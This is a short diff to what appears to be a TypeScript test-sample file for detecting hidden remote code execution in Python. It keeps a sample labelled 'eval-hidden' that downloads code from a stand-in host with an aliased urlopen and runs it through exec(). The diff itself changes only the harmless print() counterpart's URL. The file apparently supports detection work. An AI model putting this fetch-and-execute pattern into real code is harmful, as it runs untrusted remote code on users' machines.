@@ -28,7 +28,7 @@ export const pythonSamples: readonly Sample[] = [
     "eval-hidden",
     "the network",
     "from urllib.request import urlopen as u\nexec(u('https://x.example/a').read())",
-    "from urllib.request import urlopen as u\nprint(u('https://x.example/a').read())",
+    "from urllib.request import urlopen as u\nprint(u('https://api.pay.example/a').read())",
   ),
   py(
     "eval-hidden",
